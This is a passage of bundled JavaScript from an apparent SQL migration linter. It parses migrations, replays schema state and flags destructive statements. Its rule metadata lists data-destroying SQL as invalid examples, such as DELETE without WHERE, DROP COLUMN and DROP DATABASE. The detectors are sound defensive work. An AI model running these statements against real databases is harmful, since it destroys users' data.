      return (routines.get(routineKey(op.name)) ?? []).map((inner) => ({ ...inner, span: op.span }));
    });
    return called.length ? { ...stmt, operations: [...stmt.operations, ...called] } : stmt;
  });
}
function routineKey(name) {
  return (name.at(-1) ?? "").toLowerCase();
}
function tokenRoutineOps(stmt, text, dialect) {
  const tokens = tokenize(text.slice(stmt.span.start, stmt.span.end), dialect).filter((t) => t.kind !== "comment").map((t) => ({ ...t, start: t.start + stmt.span.start, end: t.end + stmt.span.start }));
  const ops = [];
  for (let i = 0; i < tokens.length; i++) {
    const t = tokens[i];
    if (t.upper === "CREATE") {
      const kind = tokens.slice(i + 1, i + 6).findIndex((n) => ["PROCEDURE", "PROC", "FUNCTION", "TRIGGER"].includes(n.upper ?? ""));
      if (kind >= 0) {
        const nameAt2 = i + 1 + kind + 1;
        ops.push({ op: "define-routine", name: dottedName(tokens, nameAt2), span: spanOf(t), body: stmt.span });
      }
    } else if (t.upper === "CALL" || (t.upper === "EXEC" || t.upper === "EXECUTE") && tokens[i + 1]?.kind === "word") {
      const name = dottedName(tokens, i + 1);
      if (name.length) ops.push({ op: "call", name, span: spanOf(t) });
    }
  }
  return ops;
}
function dottedName(tokens, at) {
  const parts = [];
  for (let i = at; i < tokens.length; i += 2) {
    const t = tokens[i];
    if (!t || t.kind !== "word" && t.kind !== "quoted-ident") break;
    parts.push(t.kind === "word" ? t.text : t.value);
    if (tokens[i + 1]?.text !== ".") break;
  }
  return parts;
}
function spanOf(t) {
  return { start: t.start, end: t.end };
}

// src/parsers/sql/analyse.ts
var WHOLE_FILE_PARSE_LIMIT = 1024 * 1024;
function analyseSql(source, dialect, options = {}) {
  const prepared = prepareSql(source);
  const text = prepared.text;
  let statements;
  if (dialect !== "postgres") statements = routineOperations(analyseWithTokenizer(text, dialect), text, dialect);
  else if (options.parseEverything) statements = routineOperations(analysePostgres(text), text, dialect);
  else statements = analysePostgresFiltered(text, options.qualifierMatters ?? (() => true));
  return { dialect, statements, rollbackRanges: prepared.rollbackRanges };
}
function analysePostgresFiltered(text, qualifierMatters) {
  const context = createRecogniseContext();
  const statements = [];
  const calling = [];
  let run = [];
  let runChars = 0;
  const flush = () => {
    if (run.length) statements.push(...analysePostgresRun(run, text, context));
    run = [];
    runChars = 0;
  };
  forEachStatement(text, "postgres", (stmt) => {
    const decision = prefilterStatement(stmt, text, qualifierMatters);
    if (decision.parse) {
      run.push(stmt);
      runChars += stmt.span.end - stmt.span.start;
      if (run.length >= RUN_STATEMENTS || runChars >= RUN_CHARS) flush();
      return;
    }
    flush();
    if (decision.calls.length) calling.push({ index: statements.length, calls: decision.calls });
    statements.push({ span: stmt.span, reader: "skipped", operations: skippedRoutineDefinition(stmt) });
  });
  flush();
  const defined = withRoutineDefinitions(statements, text, "postgres");
  if (calling.length) {
    const routines = routinesOf(defined);
    for (const { index, calls } of calling) {
      if (!calls.some((name) => routines.has(name))) continue;
      const span = defined[index].span;
      const tokens = codeTokens(text.slice(span.start, span.end), span.start);
      defined[index] = analysePostgresStatement({ span, tokens, comments: [] }, text, context);
    }
  }
  return withRoutineCalls(defined);
}
var RUN_STATEMENTS = 64;
var RUN_CHARS = 256 * 1024;
function analysePostgresRun(run, text, context) {
  if (run.length === 1) return [analysePostgresStatement(run[0], text, context)];
  const start = run[0].span.start;
  const end = run.at(-1).span.end;
  try {
    const parsed = parsePostgres(text.slice(start, end));
    if (parsed.statements.length === run.length) {
      const tokens = run.flatMap((s) => s.tokens);
      return parsed.statements.map(
        (raw) => fromPg(raw, text, start, parsed.toChar, tokensWithin(tokens, start + raw.start, start + raw.end))
      );
    }
  } catch (error) {
    if (!(error instanceof PgSyntaxError)) throw error;
  }
  return run.map((stmt) => analysePostgresStatement(stmt, text, context));
}
function analyseWithTokenizer(text, dialect) {
  return recogniseStatements(text, dialect).map(({ statement, operations }) => ({
    span: statement.span,
    reader: "tokenizer",
    operations
  }));
}
function analysePostgres(text) {
  if (text.length <= WHOLE_FILE_PARSE_LIMIT) {
    try {
      const parsed = parsePostgres(text);
      const tokens = codeTokens(text, 0);
      return parsed.statements.map(
        (raw) => fromPg(raw, text, 0, parsed.toChar, tokensWithin(tokens, raw.start, raw.end))
      );
    } catch (error) {
      if (!(error instanceof PgSyntaxError)) throw error;
    }
  }
  const context = createRecogniseContext();
  const statements = [];
  forEachStatement(text, "postgres", (stmt) => statements.push(analysePostgresStatement(stmt, text, context)));
  return statements;
}
function analysePostgresStatement(stmt, text, context) {
  const own = text.slice(stmt.span.start, stmt.span.end);
  try {
    const parsed = parsePostgres(own);
    const ops = parsed.statements.flatMap((raw) => {
      const tokens = tokensWithin(stmt.tokens, stmt.span.start + raw.start, stmt.span.start + raw.end);
      return fromPg(raw, text, stmt.span.start, parsed.toChar, tokens).operations;
    });
    return { span: stmt.span, reader: "postgres", operations: ops };
  } catch (error) {
    if (!(error instanceof PgSyntaxError)) throw error;
    return {
      span: stmt.span,
      reader: "tokenizer",
      parserError: error.message,
      operations: recogniseStatement(stmt, text, "postgres", context)
    };
  }
}
function fromPg(raw, text, base, toChar, tokens) {
  const start = tokens[0]?.start ?? base + raw.start;
  const end = tokens.at(-1)?.end ?? base + raw.end;
  const span = { start, end };
  const ctx = {
    text,
    span,
    tokens,
    locate: (location) => base + toChar(location),
    readEmbedded: readEmbeddedPostgres,
    readPlpgsql
  };
  return { span, reader: "postgres", operations: pgOperations(raw.stmt, ctx) };
}
var plpgsqlRead = /* @__PURE__ */ new Map();
var plpgsqlReadChars = 0;
var PLPGSQL_CACHE_CHARS = 8 * 1024 * 1024;
function readPlpgsql(sql, at) {
  let ops = plpgsqlRead.get(sql);
  if (!ops) {
    ops = plpgsqlOperations(sql, 0, readEmbeddedPostgres);
    if (plpgsqlReadChars + sql.length > PLPGSQL_CACHE_CHARS) {
      plpgsqlRead.clear();
      plpgsqlReadChars = 0;
    }
    plpgsqlRead.set(`${sql} `.slice(0, -1), ops);
    plpgsqlReadChars += sql.length;
  }
  return ops.map((op) => shiftOperation(op, at));
}
function readEmbeddedPostgres(sql, at) {
  const shift = (op) => shiftOperation(op, at);
  if (sql.trim() === "") return [];
  try {
    const parsed = parsePostgres(sql);
    const tokens = codeTokens(sql, 0);
    return parsed.statements.flatMap(
      (raw) => fromPg(raw, sql, 0, parsed.toChar, tokensWithin(tokens, raw.start, raw.end)).operations.map(shift)
    );
  } catch {
    return splitStatements(sql, "postgres").flatMap((stmt) => recogniseStatement(stmt, sql, "postgres").map(shift));
  }
}
function tokensWithin(tokens, start, end) {
  let lo = 0;
  let hi = tokens.length;
  while (lo < hi) {
    const mid = lo + hi >> 1;
    if (tokens[mid].start < start) lo = mid + 1;
    else hi = mid;
  }
  let stop = lo;
  while (stop < tokens.length && tokens[stop].start < end) stop++;
  return tokens.slice(lo, stop);
}
function codeTokens(slice, offset) {
  const tokens = tokenize(slice, "postgres").filter((t) => t.kind !== "comment");
  if (offset !== 0) {
    for (const t of tokens) {
      t.start += offset;
      t.end += offset;
    }
  }
  return tokens;
}

// src/rules/sql/lib/document.ts
var operationIndex = /* @__PURE__ */ new WeakMap();
function operationsOf(doc, op) {
  let byOp = operationIndex.get(doc);
  if (!byOp) {
    byOp = /* @__PURE__ */ new Map();
    for (const stmt of doc.statements) {
      for (const operation of stmt.operations) {
        const list2 = byOp.get(operation.op) ?? [];
        list2.push({ operation, unit: stmt.span });
        byOp.set(operation.op, list2);
      }
    }
    operationIndex.set(doc, byOp);
  }
  return byOp.get(op) ?? [];
}
var createIndex = /* @__PURE__ */ new WeakMap();
function createsOf(doc, name) {
  let byName = createIndex.get(doc);
  if (!byName) {
    byName = /* @__PURE__ */ new Map();
    for (const { operation } of operationsOf(doc, "create-table")) {
      const key = nameKey(operation.name);
      byName.set(key, [...byName.get(key) ?? [], operation]);
    }
    createIndex.set(doc, byName);
  }
  return byName.get(nameKey(name)) ?? [];
}
var lineIndexes = /* @__PURE__ */ new WeakMap();
function lineOfOffset(doc, offset) {
  let index = lineIndexes.get(doc);
  if (!index) lineIndexes.set(doc, index = new LineIndex(doc.text));
  return index.lineOf(offset);
}
function displayName(name) {
  return name.join(".");
}
function createdEarlier(doc, name, offset) {
  const rollback = inRanges(offset, doc.rollbackRanges);
  return createsOf(doc, name).some(
    (create) => !create.ifNotExists && create.span.start < offset && inRanges(create.span.start, doc.rollbackRanges) === rollback && !movedIn(doc, name, create.span.start, offset)
  );
}
function movedIn(doc, name, from, to) {
  const key = nameKey(name);
  const between = (span) => span.start > from && span.start < to;
  return operationsOf(doc, "swap-tables").some(
    ({ operation }) => between(operation.span) && operation.tables.some((t) => nameKey(t) === key)
  ) || operationsOf(doc, "rename-table").some(
    ({ operation }) => between(operation.span) && nameKey([...operation.from.slice(0, -1), operation.to]) === key
  );
}
function heldDataBefore(doc, name, offset) {
  return !isTemporaryTable(doc, name) && !createdEarlier(doc, name, offset);
}
function isTemporaryTable(doc, name) {
  const last = name.at(-1) ?? "";
  if (last.startsWith("#")) return true;
  return createsOf(doc, name).some((create) => create.temporary);
}
function nameKey(name) {
  const parts = name.map((p) => p.toLowerCase());
  if (parts.length > 1 && ["public", "dbo"].includes(parts[parts.length - 2])) parts.splice(parts.length - 2, 1);
  return parts.slice(-2).join(".");
}

// src/rules/sql/lib/schema-state.ts
function replaySchema(state, analysis, text, until = Infinity) {
  for (const stmt of analysis.statements) {
    if (stmt.span.end > until) break;
    if (analysis.rollbackRanges.length && inRanges(stmt.span.start, analysis.rollbackRanges)) continue;
    for (const op of stmt.operations) {
      if (op.op === "create-table" && !op.temporary) {
        state.set(nameKey(op.name), op.columns.length > 0 ? op.columns.map((c) => ({ ...c })) : "unknown");
      } else if (op.op === "drop" && op.objectType === "table") {
        for (const n of op.names) state.delete(nameKey(n));
      } else if (op.op === "rename-table") {
        const from = nameKey(op.from);
        const to = nameKey([...op.from.slice(0, -1), op.to]);
        const columns = state.get(from);
        state.delete(from);
        if (columns !== void 0) state.set(to, columns);
      } else if (op.op === "swap-tables") {
        const [a, b] = op.tables.map(nameKey);
        const [first, second] = [state.get(a), state.get(b)];
        for (const [key, columns] of [
          [a, second],
          [b, first]
        ]) {
          if (columns === void 0) state.delete(key);
          else state.set(key, columns);
        }
      } else if (op.op === "drop-column") {
        const columns = state.get(nameKey(op.table));
        if (Array.isArray(columns)) {
          const kept = columns.filter((c) => c.name.toLowerCase() !== op.column.toLowerCase());
          state.set(nameKey(op.table), kept);
        }
      } else if (op.op === "rename-column") {
        const columns = state.get(nameKey(op.table));
        if (Array.isArray(columns)) {
          for (const c of columns) if (c.name.toLowerCase() === op.from.toLowerCase()) c.name = op.to;
        }
      } else if (op.op === "alter-column-type") {
        const columns = state.get(nameKey(op.table));
        if (Array.isArray(columns)) {
          for (const c of columns) if (c.name.toLowerCase() === op.column.toLowerCase()) c.type = op.newType;
        }
      }
    }
    addedColumns(state, text, stmt.span, analysis.dialect);
  }
}
var CONSTRAINT_WORDS = /* @__PURE__ */ new Set(["CONSTRAINT", "PRIMARY", "UNIQUE", "FOREIGN", "CHECK", "INDEX", "KEY"]);
function addedColumns(state, text, span, dialect) {
  const tokens = tokenize(text.slice(span.start, span.end), dialect).filter((t) => t.kind !== "comment");
  if (tokens[0]?.upper !== "ALTER" || tokens[1]?.upper !== "TABLE") return;
  let i = 2;
  if (tokens[i]?.upper === "IF" && tokens[i + 1]?.upper === "EXISTS") i += 2;
  if (tokens[i]?.upper === "ONLY") i++;
  const { name, next } = qualifiedName(tokens, i);
  if (name.length === 0) return;
  const key = nameKey(name);
  const columns = state.get(key);
  if (!Array.isArray(columns)) return;
  for (let j = next; j < tokens.length; j++) {
    if (tokens[j].upper !== "ADD") continue;
    let k = j + 1;
    if (tokens[k]?.upper === "COLUMN") k++;
    if (tokens[k]?.upper === "IF" && tokens[k + 1]?.upper === "NOT" && tokens[k + 2]?.upper === "EXISTS") k += 3;
    const column = tokens[k];
    const type = tokens[k + 1];
    if (column && CONSTRAINT_WORDS.has(column.upper ?? "") && k === j + 1) continue;
    if (!column || !type || column.kind !== "word" && column.kind !== "quoted-ident") {
      state.set(key, "unknown");
      return;
    }
    columns.push({
      name: column.value,
      type: type.value.toLowerCase(),
      ...generatedClause(tokens, k + 2) ? { generated: true } : {}
    });
  }
}
function generatedClause(tokens, from) {
  let depth = 0;
  for (let j = from; j < tokens.length; j++) {
    const t = tokens[j];
    if (t.text === "(") depth++;
    else if (t.text === ")") depth--;
    else if (depth === 0 && (t.text === "," || t.text === ";")) return false;
    if (depth === 0 && t.upper === "AS" && tokens[j + 1]?.text === "(") return true;
  }
  return false;
}
function qualifiedName(tokens, at) {
  const name = [];
  let i = at;
  while (tokens[i] && (tokens[i].kind === "word" || tokens[i].kind === "quoted-ident")) {
    name.push(tokens[i].value);
    if (tokens[i + 1]?.text !== ".") {
      i++;
      break;
    }
    i += 2;
  }
  return { name, next: i };
}
var BOUNDING = /* @__PURE__ */ new Set([
  "WHERE",
  "LIMIT",
  "JOIN",
  "GROUP",
  "HAVING",
  "DISTINCT",
  "OFFSET",
  "UNION",
  "EXCEPT",
  "INTERSECT",
  "FETCH",
  "TOP"
]);
function rowCopy(text, span, dialect) {
  const lexer = new SqlLexer(text.slice(span.start, span.end), dialect);
  const tokens = [];
  const readTo = (index) => {
    while (tokens.length <= index) {
      let token = lexer.next();
      while (token?.kind === "comment") token = lexer.next();
      if (!token) return;
      tokens.push(token);
    }
  };
  readTo(2);
  if (tokens[0]?.upper !== "INSERT") return void 0;
  let i = 1;
  if (tokens[i]?.upper === "OR") i += 2;
  readTo(i);
  if (tokens[i]?.upper !== "INTO") return void 0;
  for (let k = i + 1; ; k++) {
    readTo(k);
    const t = tokens[k];
    if (!t || !(t.kind === "word" || t.kind === "quoted-ident" || t.text === ".")) break;
  }
  const into = qualifiedName(tokens, i + 1);
  if (into.name.length === 0) return void 0;
  i = into.next;
  readTo(i);
  if (tokens[i]?.text === "(") {
    for (readTo(i); i < tokens.length && tokens[i].text !== ")"; readTo(++i)) ;
    i++;
  }
  readTo(i);
  if (tokens[i]?.upper !== "SELECT") return void 0;
  readTo(Infinity);
  const selectAt = i + 1;
  const fromAt = tokens.findIndex((t, k) => k > i && t.upper === "FROM");
  if (fromAt < 0) return void 0;
  const from = qualifiedName(tokens, fromAt + 1);
  if (from.name.length === 0) return void 0;
  const rest = tokens.slice(from.next).filter((t) => t.text !== ";");
  const selected = tokens.slice(selectAt, fromAt);
  if (selected.some((t) => BOUNDING.has(t.upper ?? "")) || rest.some((t) => BOUNDING.has(t.upper ?? "") || t.text === ","))
    return void 0;
  if (rest.length > 2 || rest.length > 0 && rest.some((t) => t.kind !== "word" && t.kind !== "quoted-ident"))
    return void 0;
  let columns;
  if (selected.length === 1 && selected[0].text === "*") columns = "*";
  else {
    const names = [];
    for (const item of commaSeparated(selected)) {
      const name = keptColumn(item);
      if (name === void 0) return void 0;
      names.push(name);
    }
    columns = names;
  }
  return { into: nameKey(into.name), from: nameKey(from.name), columns };
}
var ROLLBACK_FILE = /(\.down\.sql|\/down\.sql|\.rollback\.sql)$|\/U\d[^/]*__[^/]*\.sql$/i;
function commaSeparated(tokens) {
  const items = [[]];
  let depth = 0;
  for (const t of tokens) {
    if (t.text === "(") depth++;
    else if (t.text === ")") depth--;
    if (depth === 0 && t.text === ",") items.push([]);
    else items.at(-1).push(t);
  }
  return items;
}
var NULL_FILLERS = /* @__PURE__ */ new Set(["IFNULL", "COALESCE", "NVL", "ISNULL"]);
function keptColumn(item) {
  const isName2 = (t) => t?.kind === "word" || t?.kind === "quoted-ident";
  if (item.length === 1 && isName2(item[0])) return item[0].value.toLowerCase();
  const [fn, open, column, comma, ...rest] = item;
  if (!NULL_FILLERS.has(fn?.upper ?? "") || open?.text !== "(" || !isName2(column) || comma?.text !== ",") {
    return void 0;
  }
  const literal2 = rest[0]?.text === "-" ? rest.slice(1) : rest;
  if (literal2.length !== 2 || literal2[1].text !== ")") return void 0;
  if (!["string", "number"].includes(literal2[0].kind) && literal2[0].upper !== "NULL") return void 0;
  return column.value.toLowerCase();
}
var MAX_HISTORY_FILES = 400;
function priorSchema(path, baseTree, analyse) {
  const state = /* @__PURE__ */ new Map();
  if (!baseTree) return state;
  for (const p of earlierMigrations(path, (root) => baseTree.list(root)) ?? []) {
    const text = baseTree.read(p);
    if (text === void 0) return /* @__PURE__ */ new Map();
    replaySchema(state, analyse(text), text);
  }
  return state;
}
function earlierMigrations(path, list2) {
  const parts = path.split("/");
  const nested = parts.at(-1) === "migration.sql" && parts.length >= 3;
  const root = parts.slice(0, nested ? -2 : -1).join("/");
  const depth = nested ? 2 : 1;
  const earlier = list2(root).filter(
    (p) => p.endsWith(".sql") && !ROLLBACK_FILE.test(p) && p.split("/").length === parts.length && p.slice(root.length).split("/").length - 1 === depth
  ).filter((p) => p < path).sort();
  return earlier.length > MAX_HISTORY_FILES ? void 0 : earlier;
}
function stateAt(prior, analysis, text, offset) {
  const state = new Map(
    [...prior].map(([k, v]) => [k, v === "unknown" ? v : v.map((c) => ({ ...c }))])
  );
  replaySchema(state, analysis, text, offset);
  return state;
}

// src/rules/sql/lib/expiry-state.ts
function priorExpiries(path, baseTree, analyse) {
  const state = /* @__PURE__ */ new Map();
  if (!baseTree) return state;
  for (const p of earlierMigrations(path, (root) => baseTree.list(root)) ?? []) {
    const text = baseTree.read(p);
    if (text === void 0 || !/\b(ttl|expiration_days)\b/i.test(text)) continue;
    replayExpiries(state, analyse(text));
  }
  return state;
}
function replayExpiries(state, analysis, until = Infinity) {
  for (const stmt of analysis.statements) {
    if (stmt.span.start >= until) break;
    if (analysis.rollbackRanges.length && inRanges(stmt.span.start, analysis.rollbackRanges)) continue;
    for (const op of stmt.operations) {
      if (op.op === "expiry") state.set(nameKey(op.table), op.days ?? null);
    }
  }
}
function expiryBefore(doc, table, offset) {
  const key = nameKey(table);
  let found = doc.priorExpiries.get(key);
  for (const { operation } of operationsOf(doc, "expiry")) {
    if (operation.span.start >= offset) break;
    if (nameKey(operation.table) === key) found = operation.days ?? null;
  }
  return found;
}

// src/rules/sql/lib/defined-not-run.ts
var DESCRIBING = /^(create\s+(or\s+replace\s+)?(function|procedure|aggregate|operator|cast|type|text\s+search)|comment\s+on|security\s+label|grant|revoke|alter\s+(function|procedure|routine|extension|aggregate|operator)|drop\s+(function|procedure|routine|aggregate|operator|cast))\b/i;
var TRIGGER_RESULT = /\breturns\s+(trigger|event_trigger)\b/i;
function routinesNotRun(analysis, text) {
  const routines = [];
  const run = /* @__PURE__ */ new Set();
  for (const stmt of analysis.statements) {
    for (const op of stmt.operations) {
      if (op.op !== "define-routine" || op.name.length === 0) continue;
      const name = op.name.at(-1).toLowerCase();
      routines.push({ name, body: op.body });
      if (TRIGGER_RESULT.test(text.slice(stmt.span.start, stmt.span.end))) run.add(name);
    }
  }
  if (routines.length === 0) return [];
  const names = new Set(routines.map((r) => r.name));
  const gate = MentionGate.of(names);
  const bodies = new BodyIndex(routines.map((r) => r.body));
  for (const stmt of analysis.statements) {
    if (describes(text, stmt.span)) continue;
    if (gate && !gate.mayMention(text, stmt.span)) continue;
    for (const name of mentioned(text, stmt.span, bodies.cutting(stmt.span), analysis.dialect, names)) run.add(name);
  }
  const byName = /* @__PURE__ */ new Map();
  for (const r of routines) byName.set(r.name, [...byName.get(r.name) ?? [], r]);
  const pending = [...run];
  for (let name = pending.pop(); name !== void 0; name = pending.pop()) {
    for (const r of byName.get(name) ?? []) {
      for (const called of mentioned(text, r.body, [], analysis.dialect, names)) {
        if (!run.has(called)) {
          run.add(called);
          pending.push(called);
        }
      }
    }
  }
  return routines.filter((r) => !run.has(r.name));
}
function describes(text, span) {
  let start = span.start;
  while (start < span.end && /\s/.test(text[start])) start++;
  const head = text.slice(start, Math.min(span.end, start + HEAD));
  if (DESCRIBING.test(head)) return true;
  return start + HEAD < span.end && /^[a-z\s]*$/i.test(head) && DESCRIBING.test(text.slice(start, span.end));
}
var HEAD = 256;
var BodyIndex = class {
  byStart;
  byEnd;
  constructor(bodies) {
    this.byStart = [...bodies].sort((a, b) => a.start - b.start);
    this.byEnd = [...bodies].sort((a, b) => a.end - b.end);
  }
  /** Bodies that start inside the span, or end inside it having started before it. */
  cutting(span) {
    const out = [];
    for (let i = firstAtLeast(this.byStart, (b) => b.start, span.start); i < this.byStart.length; i++) {
      const b = this.byStart[i];
      if (b.start >= span.end) break;
      if (!(b.start <= span.start && span.end <= b.end)) out.push(b);
    }
    for (let i = firstAtLeast(this.byEnd, (b) => b.end, span.start + 1); i < this.byEnd.length; i++) {
      const b = this.byEnd[i];
      if (b.end >= span.end) break;
      if (b.start < span.start) out.push(b);
    }
    return out;
  }
};
function firstAtLeast(sorted, key, value) {
  let lo = 0;
  let hi = sorted.length;
  while (lo < hi) {
    const mid = lo + hi >> 1;
    if (key(sorted[mid]) < value) lo = mid + 1;
    else hi = mid;
  }
  return lo;
}
function mentioned(text, span, skip, dialect, names) {
  const found = /* @__PURE__ */ new Set();
  let shortest = Infinity;
  let longest = 0;
  for (const name of names) {
    shortest = Math.min(shortest, name.length);
    longest = Math.max(longest, name.length);
  }
  const note = (word2) => {
    if (word2.length > longest) return;
    const lower = word2.toLowerCase();
    if (names.has(lower)) found.add(lower);
  };
  const lexer = new SqlLexer(text.slice(span.start, span.end), dialect);
  for (let token = lexer.next(); token; token = lexer.next()) {
    const at = token.start + span.start;
    if (skip.length && skip.some((b) => b.start <= at && at < b.end)) continue;
    if (token.kind === "word" || token.kind === "quoted-ident") note(token.value);
    else if (token.kind === "string") forEachStringWord(token.value, shortest, longest, note);
  }
  return found;
}
function forEachStringWord(value, shortest, longest, visit) {
  const n = value.length;
  let i = 0;
  while (i < n) {
    if (!isWordStart(value.charCodeAt(i))) {
      i++;
      continue;
    }
    const start = i++;
    while (i < n && isWordPart(value.charCodeAt(i))) i++;
    const length2 = i - start;
    if (length2 >= shortest && length2 <= longest) visit(value.slice(start, i));
  }
}
function isWordStart(c) {
  return c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95;
}
function isWordPart(c) {
  return isWordStart(c) || c >= 48 && c <= 57 || c === 36;
}
var MentionGate = class _MentionGate {
  constructor(hashes, longest) {
    this.hashes = hashes;
    this.longest = longest;
  }
  hashes;
  longest;
  static of(names) {
    const hashes = /* @__PURE__ */ new Set();
    let longest = 0;
    for (const name of names) {
      if (!/^[a-z0-9_]+$/.test(name)) return void 0;
      let h = 0;
      for (let i = name.length - 1; i >= 0; i--) h = Math.imul(h, 31) + name.charCodeAt(i) | 0;
      hashes.add(h);
      longest = Math.max(longest, name.length);
    }
    return new _MentionGate(hashes, longest);
  }
  mayMention(text, span) {
    const { hashes, longest } = this;
    let i = span.start;
    while (i < span.end) {
      const c = text.charCodeAt(i);
      if (c === 92 || c > 127) return true;
      if (!isRunPart(c)) {
        i++;
        continue;
      }
      const start = i++;
      for (; i < span.end; i++) {
        const d = text.charCodeAt(i);
        if (!isRunPart(d)) break;
      }
      let h = 0;
      for (let k = i - 1; k >= start && i - k <= longest; k--) {
        const d = text.charCodeAt(k);
        h = Math.imul(h, 31) + (d >= 65 && d <= 90 ? d + 32 : d) | 0;
        if (hashes.has(h)) return true;
      }
    }
    return false;
  }
};
function isRunPart(c) {
  return c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 95;
}
function notRunRoutineAt(routines, span) {
  return routines.find((r) => r.body.start <= span.start && span.end <= r.body.end);
}

// src/rules/sql/delete-without-where.ts
var deleteWithoutWhere = {
  meta: {
    id: "sql/delete-without-where",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "DELETE with no WHERE clause removes every row of the table.",
    messages: { deleteAll: "DELETE FROM {name} has no WHERE clause and deletes every row" },
    examples: {
      invalid: [
        { code: "DELETE FROM sessions;", line: 1 },
        { code: "WITH gone AS (\n  DELETE FROM api_keys RETURNING id\n)\nSELECT count(*) FROM gone;", line: 2 }
      ],
      valid: [
        "DELETE FROM sessions WHERE expires_at < now();",
        "CREATE TABLE a (id int REFERENCES b(id) ON DELETE CASCADE);",
        "INSERT INTO lessons (body) VALUES ('Never run DELETE FROM orders;');"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "delete")) {
      if (operation.where !== "none") continue;
      if (!heldDataBefore(doc, operation.table, operation.span.start)) continue;
      report({ messageId: "deleteAll", data: { name: displayName(operation.table) }, span: operation.span, unit });
    }
  }
};

// src/rules/sql/detach-partition.ts
var detachPartition = {
  meta: {
    id: "sql/detach-partition",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "warn",
    description: "DETACH PARTITION takes rows out of the table; they survive as a standalone table that is often dropped next.",
    messages: { detachPartition: "DETACH PARTITION {partitions} removes those rows from {table}" },
    examples: {
      invalid: [{ code: "ALTER TABLE measurements DETACH PARTITION measurements_y2020;", line: 1 }],
      valid: ["ALTER TABLE measurements ATTACH PARTITION m2025 FOR VALUES FROM ('2025-01-01') TO ('2026-01-01');"]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "drop-partition")) {
      if (!operation.detach) continue;
      const data = { partitions: operation.partitions.join(", "), table: displayName(operation.table) };
      report({ messageId: "detachPartition", data, span: operation.span, unit });
    }
  }
};

// src/rules/sql/lib/made-here.ts
function columnAddedEarlier(doc, table, column, offset) {
  const key = nameKey(table);
  const wanted = column.toLowerCase();
  return statementsBefore(doc, offset, /\badd\b/i).some((tokens) => {
    if (!isWord(tokens[0], "ALTER") || !isWord(tokens[1], "TABLE")) return false;
    let i = 2;
    if (isWord(tokens[i], "IF") && isWord(tokens[i + 1], "EXISTS")) i += 2;
    if (isWord(tokens[i], "ONLY")) i++;
    const { name, next } = dottedName2(tokens, i);
    if (name.length === 0 || nameKey(name) !== key) return false;
    for (let j = next; j < tokens.length; j++) {
      if (!isWord(tokens[j], "ADD") || j > next && tokens[j - 1]?.text !== ",") continue;
      const k = isWord(tokens[j + 1], "COLUMN") ? j + 2 : j + 1;
      if (isWord(tokens[k], "IF")) continue;
      const added = tokens[k];
      if (added && isName(added) && added.value.toLowerCase() === wanted) return true;
    }
    return false;
  });
}
function statementsBefore(doc, offset, cheap) {
  const rollback = inRanges(offset, doc.rollbackRanges);
  const found = [];
  for (const stmt of doc.statements) {
    if (stmt.span.start >= offset) break;
    if (inRanges(stmt.span.start, doc.rollbackRanges) !== rollback) continue;
    const text = doc.text.slice(stmt.span.start, stmt.span.end);
    if (!cheap.test(text)) continue;
    found.push(tokenize(text, doc.dialect).filter((t) => t.kind !== "comment"));
  }
  return found;
}
function dottedName2(tokens, at) {
  const name = [];
  let i = at;
  while (tokens[i] && isName(tokens[i])) {
    name.push(tokens[i].value);
    if (tokens[i + 1]?.text !== ".") return { name, next: i + 1 };
    i += 2;
  }
  return { name, next: i };
}
function isName(token) {
  return token.kind === "word" || token.kind === "quoted-ident";
}
function isWord(token, word2) {
  return token?.kind === "word" && token.upper === word2;
}

// src/rules/sql/drop-column.ts
function generatedColumnReason(doc, table, column, at) {
  const columns = stateAt(doc.prior, doc, doc.text, at).get(nameKey(table));
  const found = Array.isArray(columns) ? columns.find((c) => c.name.toLowerCase() === column.toLowerCase()) : void 0;
  return found?.generated ? `${displayName(table)}.${column} is a generated column: its values are computed from other columns and come back with its expression` : void 0;
}
var dropColumn = {
  meta: {
    id: "sql/drop-column",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "ALTER TABLE ... DROP COLUMN: the column and its value in every row are gone.",
    messages: { dropColumn: "DROP COLUMN {column} on {table} destroys that column in every row" },
    examples: {
      invalid: [
        { code: "ALTER TABLE users DROP COLUMN phone;", line: 1 },
        {
          code: "ALTER TABLE users\n  DROP COLUMN fax,\n  DROP COLUMN pager;",
          line: 3,
          path: "db/mysql/V3__cleanup.sql"
        },
        { code: "ALTER TABLE users DROP middle_name;", line: 1, path: "db/mysql/V4__cleanup.sql" }
      ],
      valid: [
        "ALTER TABLE orders DROP CONSTRAINT orders_currency_not_null;",
        "ALTER TABLE users ADD COLUMN dropped_at timestamptz;",
        "ALTER TABLE orders ALTER COLUMN currency DROP NOT NULL;",
        "ALTER TABLE users ADD COLUMN scratch int;\nUPDATE users SET scratch = 1 WHERE id < 10;\nALTER TABLE users DROP COLUMN scratch;"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "drop-column")) {
      if (!heldDataBefore(doc, operation.table, operation.span.start)) continue;
      if (columnAddedEarlier(doc, operation.table, operation.column, operation.span.start)) continue;
      const data = { column: operation.column, table: displayName(operation.table) };
      const routine = generatedColumnReason(doc, operation.table, operation.column, operation.span.start) ?? doc.createdInChange?.(operation.table, operation.column);
      report({
        messageId: "dropColumn",
        data,
        span: operation.span,
        unit,
        ...routine ? { downgradedBecause: routine } : {}
      });
    }
  }
};

// src/rules/sql/drop-database.ts
var dropDatabase = {
  meta: {
    id: "sql/drop-database",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "DROP DATABASE: every schema, table and row in the database is gone.",
    messages: { dropDatabase: "DROP DATABASE {name} destroys the whole database" },
    examples: {
      invalid: [
        { code: "DROP DATABASE IF EXISTS shop;", line: 1 },
        { code: "USE master;\nGO\nDROP DATABASE [Shop];\nGO", line: 3, path: "db/sqlserver/drop.sql" }
      ],
      valid: ["CREATE DATABASE shop;", "DROP DATABASE IF EXISTS shop_test;\nCREATE DATABASE shop_test;"]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "drop")) {
      if (operation.objectType !== "database") continue;
      const tests = operation.names.every((n) => isTestDatabase(n.at(-1) ?? ""));
      report({
        messageId: "dropDatabase",
        data: { name: operation.names.map(displayName).join(", ") },
        span: operation.span,
        unit,
